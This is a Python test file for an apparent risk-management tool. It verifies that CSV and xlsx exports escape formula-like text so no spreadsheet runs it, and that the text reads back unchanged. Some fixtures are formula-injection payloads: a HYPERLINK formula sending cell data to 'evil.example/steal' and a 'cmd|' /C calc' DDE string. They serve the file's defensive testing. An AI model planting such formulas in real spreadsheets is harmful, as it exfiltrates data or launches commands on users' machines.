"""Formula-like text in exports (issue 11): a text starting with ``=``, ``+``, ``-``, ``@``, a tab, a
carriage return or their full-width forms is written so that no spreadsheet runs it (a leading
apostrophe; in a workbook a string cell, never a formula cell), and reading the file gives back
exactly the text that was written: through the bundle writer and reader, through ``beacon export``
then ``beacon import`` (CSV folder, the zip of the web download, .xlsx), and through the web
download. The rule is ``beacon/domain/cells.py``."""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from beacon.bundle.reader import read_bundle
from beacon.bundle.writer import write_csv_folder, write_workbook
from beacon.cli import main
from beacon.core.models import ImportRun, Revision
from beacon.domain.cells import formula_safe, from_formula_safe, workbook_text

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2,"Open the control guidance")'
HEAD_OF_AUDIT = "=Head of Audit"

# What a spreadsheet may run, written here independently of the rule under test: a cell whose
# text starts with one of these and is not a plain number such as -5.
RUNS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def would_run(cell: str) -> bool:
    return cell.startswith(RUNS) and not PLAIN_NUMBER.fullmatch(cell)


# --- the rule -----------------------------------------------------------------------------------
@pytest.mark.parametrize("text, written", [
    ("=SUM(A1:A2)", "'=SUM(A1:A2)"), ("+44 1622 000000", "'+44 1622 000000"), ("@cmd", "'@cmd"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("\uff0bx", "'\uff0bx"), ("\uff0dx", "'\uff0dx"), ("\uff20x", "'\uff20x"),
    ("-", "'-"), ("'=x", "''=x"), ("''+x", "'''+x"),
    # numbers stay numbers; other text, and an apostrophe before ordinary text, are left alone
    ("-5", "-5"), ("-0.25", "-0.25"), ("84.0", "84.0"), ("-5%", "'-5%"),
    ("Head of Audit", "Head of Audit"), ("'Deep Dive' activity", "'Deep Dive' activity"), ("'", "'"), ("", ""),
    (" =1", " =1"),
])
def test_the_rule_escapes_what_a_spreadsheet_would_run(text, written):
    assert formula_safe(text) == written
    assert from_formula_safe(written) == text


def test_reading_takes_one_apostrophe_off_a_typed_escape():
    assert from_formula_safe("'=Head of Audit") == "=Head of Audit"
    assert from_formula_safe("=Head of Audit") == "=Head of Audit"  # raw text, as a spreadsheet saves it
    assert from_formula_safe("'-5") == "'-5"  # a number was never escaped, so this apostrophe is text


# texts that start like a formula, with apostrophes, full-width forms, line ends and numbers
_PREFIX = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", "''-", "\uff1d", "\uff0b",
                           "\uff0d", "\uff20", "-5", "-0.5", " ", '"', ","])
# every character a workbook can hold (XML 1.0 has no other control characters, nor surrogates)
_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters=[
    chr(c) for c in range(32) if chr(c) not in "\t\n\r"] + ["\ufffe", "\uffff"])
TEXTS = st.builds(lambda p, q, rest: p + q + rest, _PREFIX, _PREFIX, st.text(_CHARS, max_size=12))


@given(TEXTS)
@example("=HYPERLINK(\"x\")")
def test_reading_undoes_writing_for_every_text(text):
    written = formula_safe(text)
    assert from_formula_safe(written) == text
    assert not would_run(written)
    assert from_formula_safe(workbook_text(text)) == text
    assert workbook_text(text) == text or text.startswith("'")


# --- the bundle writer and reader ---------------------------------------------------------------
def _rows(texts: list[str]) -> list[dict]:
    return [{"key": f"k{i}", "text": t} for i, t in enumerate(texts)]


def _read_back(path: Path) -> list[str]:
    sheet = read_bundle(path).sheets["x.csv"]
    assert sheet.header == ["key", "text"]
    return [row.values["text"] for row in sheet.rows]


def _raw_csv_cells(folder: Path) -> list[str]:
    with (folder / "x.csv").open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def workbook_cells(data) -> list:
    """Every cell of every sheet of a workbook (a path or bytes), opened as a person opens it."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(cells) -> None:
    """No formula cell, and every text that starts like one is a string cell marked as text (the
    quote prefix Excel gives a value typed with a leading apostrophe), so that editing keeps it text."""
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    unmarked = [(c.coordinate, c.value) for c in cells
                if isinstance(c.value, str) and would_run(c.value) and not (c.data_type == "s" and c.quotePrefix)]
    assert not unmarked, f"text a spreadsheet would run once edited: {unmarked}"


# CR LF inside a CSV cell is read as a line end (a file saved by Excel; test_bundle_accepted_input),
# so the CSV property holds for every text without that pair; the workbook holds it too.
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TEXTS.filter(lambda t: "\r\n" not in t), min_size=1, max_size=8))
@example([HYPERLINK, HEAD_OF_AUDIT, "'=x", "-5", "\rfoo", "a\rb", "\uff1d1", "'", ""])
def test_csv_cells_read_back_exactly_and_never_run(texts):
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "bundle"
        write_csv_folder(folder, {"x.csv": (["key", "text"], _rows(texts))})
        assert not [c for c in _raw_csv_cells(folder) if would_run(c)]
        assert _read_back(folder) == texts


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TEXTS, min_size=1, max_size=8))
@example([HYPERLINK, HEAD_OF_AUDIT, "'=x", "-5", "\rfoo", "a\r\nb", "\uff1d1", "'", ""])
def test_workbook_cells_read_back_exactly_and_are_never_formulas(texts):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "bundle.xlsx"
        write_workbook(path, {"x.csv": (["key", "text"], _rows(texts))})
        cells = workbook_cells(path)
        assert_no_formula(cells)
        # a person sees the text itself (only one that starts with an apostrophe gets another)
        shown = [c.value or "" for c in cells if c.column == 2 and c.row > 1]
        assert [s for s, t in zip(shown, texts) if not t.startswith("'")] == [t for t in texts if not t.startswith("'")]
        assert _read_back(path) == texts


def test_a_formula_like_column_name_reads_back(tmp_path):
    """Supporting tables keep their printed column names, e.g. ``+/- on last year``."""
    columns = ["row_order", "+/- on last year", "=total"]
    rows = [{"row_order": "1", "+/- on last year": "-3", "=total": "=12"}]
    for path in (tmp_path / "folder", tmp_path / "book.xlsx"):
        (write_csv_folder if path.suffix != ".xlsx" else write_workbook)(path, {"tables/t.csv": (columns, rows)})
        sheet = read_bundle(path).sheets["tables/t.csv"]
        assert sheet.header == columns
        assert [r.values for r in sheet.rows] == rows


# --- beacon export, then beacon import ----------------------------------------------------------
RISKS = [
    ["id", "title", "owner", "cause", "review_note"],
    ["CRR0001", "@Risk: cyber attack", "A. Director", "-1 staff in post", "+ to be reviewed after the settlement"],
]
CONTROLS = [
    ["risk", "title", "owner"],
    ["CRR0001", HYPERLINK, HEAD_OF_AUDIT],
    ["CRR0001", "''=already quoted", "'Deep Dive' team"],  # the text '=already quoted, typed as a spreadsheet needs
    ["CRR0001", "\uff1dfull width", "@owner"],
]
ACTIONS = [
    ["risk", "title", "owner", "due", "status", "update"],
    ["CRR0001", "=Review the controls", "-Audit team", "2027-03-31", "outstanding", "=1+1 done"],
]


def _write_source(folder: Path) -> Path:
    """A risk bundle as a person writes it: formula-like text raw, as a spreadsheet saves it."""
    folder.mkdir(parents=True)
    for name, rows in (("risks.csv", RISKS), ("controls.csv", CONTROLS), ("actions.csv", ACTIONS)):
        with (folder / name).open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)
    return folder


def _risk_text() -> dict:
    from beacon.risk import models

    risk = models.Risk.objects.get(risk_id="CRR0001")
    return {
        "risk": (risk.title, risk.cause, risk.review_note),
        "controls": sorted((c.title, c.owner) for c in risk.controls.filter(removed_at__isnull=True)),
        "actions": sorted((a.title, a.owner, a.latest_update.text) for a in risk.actions.filter(removed_at__isnull=True)),
    }


EXPECTED = {
    "risk": ("@Risk: cyber attack", "-1 staff in post", "+ to be reviewed after the settlement"),
    "controls": sorted([(HYPERLINK, HEAD_OF_AUDIT), ("'=already quoted", "'Deep Dive' team"),
                        ("\uff1dfull width", "@owner")]),
    "actions": [("=Review the controls", "-Audit team", "=1+1 done")],
}


def _zip_download(target: Path) -> Path:
    """The web download of the bundle as a zip of CSV files, unpacked."""
    from beacon.reports.formats import BUNDLE

    with zipfile.ZipFile(io.BytesIO(BUNDLE["zip"].render(None))) as archive:
        archive.extractall(target)
    return next(p for p in target.iterdir() if p.is_dir())


def _check_no_cell_runs(exported: Path) -> None:
    if exported.suffix == ".xlsx":
        assert_no_formula(workbook_cells(exported))
        return
    for file in sorted(exported.rglob("*.csv")):
        with file.open(encoding="utf-8", newline="") as handle:
            running = [c for row in csv.reader(handle) for c in row if would_run(c)]
        assert not running, f"{file.name}: {running}"


# a command run through the command line closes the database connections when it ends, which
# would end a test wrapped in one transaction on PostgreSQL (tests/cli/test_cli_beacon.py)
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("form", ["csv", "zip", "xlsx"])
def test_formula_text_round_trips_through_export_and_import(form, tmp_path, capsys):
    assert main(["import", str(_write_source(tmp_path / "source")), "--user", "setup"]) == 0
    assert _risk_text() == EXPECTED
    revisions = Revision.objects.count()

    if form == "zip":
        exported = _zip_download(tmp_path / "unzipped")
    else:
        exported = tmp_path / ("export.xlsx" if form == "xlsx" else "export")
        assert main(["export", str(exported)]) == 0
    _check_no_cell_runs(exported)

    capsys.readouterr()
    assert main(["import", str(exported), "--user", "again"]) == 0, capsys.readouterr().err
    assert _risk_text() == EXPECTED
    assert Revision.objects.count() == revisions  # idempotent: nothing changed, nothing recorded
    assert ImportRun.objects.filter(imported_by="again").count() == 1

    # and into an empty database: the same text
    from beacon.risk import models

    for model in (models.ActionUpdate, models.Action, models.Control, models.RiskRating, models.Risk):
        model.objects.all().delete()
    assert main(["import", str(exported), "--user", "fresh"]) == 0
    assert _risk_text() == EXPECTED


# --- the web download ---------------------------------------------------------------------------
@pytest.mark.django_db
def test_the_web_workbook_download_holds_no_formula_and_reimports_unchanged(tmp_path):
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Group
    from django.test import Client

    from beacon.bundle.importer import import_bundle
    from beacon.core import permissions as perm

    import_bundle(_write_source(tmp_path / "source"), user="setup")
    perm.ensure_groups()
    lead = get_user_model().objects.create_user(username="lead", password="x")
    lead.groups.add(Group.objects.get(name=perm.LEAD))
    client = Client()
    client.force_login(lead)
    revisions = Revision.objects.count()

    response = client.get("/data/export/bundle.xlsx")
    assert response.status_code == 200
    assert_no_formula(workbook_cells(response.content))

    upload = io.BytesIO(response.content)
    upload.name = "exported.xlsx"
    preview = client.post("/data/", {"bundle": upload})
    assert preview.status_code == 200, preview.content.decode()[:2000]
    page = preview.content.decode()
    assert "Nothing would change" in page, re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))[:3000]
    assert _risk_text() == EXPECTED and Revision.objects.count() == revisions


# --- the return template and its upload (beacon/returns/upload.py) ------------------------------
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TEXTS, min_size=1, max_size=6))
@example(["'=x", "=the commentary", "-5", "''+y", "\uff20z"])
def test_the_return_template_reads_back_exactly_as_csv_and_as_a_workbook(texts):
    from beacon.returns import upload as up

    rows = [list(up.COLUMNS)] + [["kpi", f"K{i}", "Title", "", "2022/23 Q3", None, "", t] for i, t in enumerate(texts)]
    as_csv = up.template_csv(rows)
    assert not [c for row in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"), newline="")) for c in row if would_run(c)]
    as_xlsx = up.template_xlsx(rows, "AA return")
    assert_no_formula(workbook_cells(as_xlsx))
    for name, data in (("return.csv", as_csv), ("return.xlsx", as_xlsx)):
        read = [cells for _, cells in up._READERS[name.rsplit(".", 1)[1]](name, data)]
        assert [cells[up.COLUMNS.index("commentary")] for cells in read[1:]] == texts, name
